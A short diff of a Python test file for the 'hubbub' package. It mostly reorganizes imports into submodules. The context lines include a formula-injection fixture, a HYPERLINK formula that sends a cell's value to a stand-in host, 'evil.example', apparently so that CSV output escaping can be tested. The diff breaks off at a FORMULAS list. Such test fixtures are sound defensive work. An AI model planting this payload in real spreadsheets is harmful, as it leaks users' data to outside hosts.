@@ -15,9 +15,10 @@ from hypothesis import strategies as st
 
 from asking.made_up import COLUMNS, KINDS, SILOS, table_of_study, write_silos
 from hubbub import Study, fit
-from hubbub.cli import main
-from hubbub.tabular import cell_text, csv_text, read_cells
-from hubbub.training import run
+from hubbub.cli.main import main
+from hubbub.tabular.cells import read_cells
+from hubbub.tabular.csv_text import cell_text, csv_text
+from hubbub.training.run_study import run
 
 LINK = '=HYPERLINK("http://evil.example/?leak="&A1)'
 FORMULAS = [
